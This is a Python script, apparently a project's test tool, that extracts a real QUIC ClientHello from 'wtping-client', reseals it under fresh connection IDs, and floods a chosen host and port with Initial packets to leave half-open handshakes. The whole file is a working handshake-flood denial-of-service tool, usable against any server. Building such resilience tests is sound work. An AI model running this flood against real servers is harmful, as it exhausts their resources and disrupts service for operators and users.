#!/usr/bin/env python3
"""A flood of real handshakes from one source address: COUNT QUIC v1 Initial
packets that each carry a genuine ClientHello under a fresh connection ID,
so that every one the server accepts leaves a half-open handshake (the
server answers and waits for a Finished that never comes) - what an
off-path attacker spoofing a victim's address makes a server do.

The ClientHello is wtping-client's own: the client is started against a
UDP socket of ours, its first Initial is decrypted with the RFC 9001
Initial keys of its DCID, and the frames are sealed again under a new
random DCID for each packet. The flood never reads the server's answers
(Retry packets included: it does not follow them).

Usage: handshake_flood.py CLIENT HOST PORT COUNT
Prints the number of packets sent."""
import os
import socket
import subprocess
import sys

from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand

V1_SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")


def expand_label(secret, label, length):
    full = b"tls13 " + label
    info = length.to_bytes(2, "big") + bytes([len(full)]) + full + b"\x00"
    return HKDFExpand(hashes.SHA256(), length, info).derive(secret)


def client_keys(dcid):
    h = hmac.HMAC(V1_SALT, hashes.SHA256())
    h.update(dcid)
    secret = expand_label(h.finalize(), b"client in", 32)
    return (expand_label(secret, b"quic key", 16), expand_label(secret, b"quic iv", 12),
            expand_label(secret, b"quic hp", 16))


def hp_mask(hp, sample):
    enc = Cipher(algorithms.AES(hp), modes.ECB()).encryptor()
    return enc.update(sample) + enc.finalize()


def varint(buf, i):
    n = 1 << (buf[i] >> 6)
    v = buf[i] & 0x3F
    for k in range(1, n):
        v = (v << 8) | buf[i + k]
    return v, i + n


def open_initial(pkt):
    """Returns (dcid length, plaintext frames) of a client's first Initial."""
    if pkt[0] & 0xF0 != 0xC0 or pkt[1:5] != b"\x00\x00\x00\x01":
        raise ValueError("not a QUIC v1 Initial")
    i = 5
    dcid = pkt[i + 1:i + 1 + pkt[i]]
    i += 1 + pkt[i]
    i += 1 + pkt[i]  # SCID
    toklen, i = varint(pkt, i)
    i += toklen
    length, pn_off = varint(pkt, i)
    key, iv, hp = client_keys(dcid)
    mask = hp_mask(hp, pkt[pn_off + 4:pn_off + 20])
    first = pkt[0] ^ (mask[0] & 0x0F)
    pnlen = (first & 3) + 1
    pn = bytes(b ^ m for b, m in zip(pkt[pn_off:pn_off + pnlen], mask[1:]))
    header = bytes([first]) + pkt[1:pn_off] + pn
    nonce = bytes(a ^ b for a, b in zip(iv, int.from_bytes(pn, "big").to_bytes(12, "big")))
    body = pkt[pn_off + pnlen:pn_off + length]
    return len(dcid), AESGCM(key).decrypt(nonce, body, header)


def seal_initial(dcidlen, frames):
    """A new Initial (packet number 0, 4 bytes) carrying |frames|."""
    dcid, scid = os.urandom(dcidlen), os.urandom(8)
    key, iv, hp = client_keys(dcid)
    pnlen = 4
    length = pnlen + len(frames) + 16
    first = 0xC0 | (pnlen - 1)
    head = bytes([first]) + b"\x00\x00\x00\x01" + bytes([dcidlen]) + dcid + bytes([8]) + scid
    head += b"\x00" + (0x4000 | length).to_bytes(2, "big")
    pn_off = len(head)
    pn = b"\x00" * pnlen
    sealed = AESGCM(key).encrypt(iv, frames, head + pn)  # pn 0: the nonce is the IV
    mask = hp_mask(hp, sealed[4 - pnlen:20 - pnlen])
    out = bytearray(head + pn + sealed)
    out[0] ^= mask[0] & 0x0F
    for k in range(pnlen):
        out[pn_off + k] ^= mask[1 + k]
    return bytes(out)


def capture_initial(client):
    """Runs |client| against a socket of ours; returns its first datagram."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(5)
    url = "https://localhost:%d/wtping" % s.getsockname()[1]
    p = subprocess.Popen([client, "-q", "-c", "1", "-W", "1", url],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        return s.recvfrom(65535)[0]
    finally:
        p.kill()
        p.wait()
        s.close()


def main():
    client, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    dcidlen, frames = open_initial(capture_initial(client))
    short = 1200 - len(seal_initial(dcidlen, frames))
    if short > 0:
        frames += b"\x00" * short  # PADDING frames: a client Initial fills 1200 bytes
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    sent = 0
    for _ in range(count):
        s.sendto(seal_initial(dcidlen, frames), (host, port))
        sent += 1
    print(sent)


if __name__ == "__main__":
    main()
